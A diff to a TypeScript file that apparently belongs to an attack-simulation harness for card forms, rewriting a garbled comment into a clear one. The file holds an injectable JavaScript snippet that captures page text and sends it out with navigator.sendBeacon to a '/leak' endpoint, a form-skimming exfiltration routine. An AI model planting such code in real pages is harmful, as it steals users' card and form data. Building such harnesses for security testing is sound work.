@@ -1,6 +1,6 @@
 import { cardForm, type Attack } from './attack.ts'
 
-/** Kept in the page, and sent. That may call what it has put over: one at a time. */
+/** Records caught text in the page and sends it. Recording may call overridden functions, so nested calls are ignored. */
 const leak =
   'let isLeaking = false; globalThis.caught = ""; const leak = (what) => { if (isLeaking) return; isLeaking = true; try { const text = typeof what === "function" ? String(what()) : String(what); caught += text + "\\n"; navigator.sendBeacon("/leak", text) } catch {} finally { isLeaking = false } };'
 
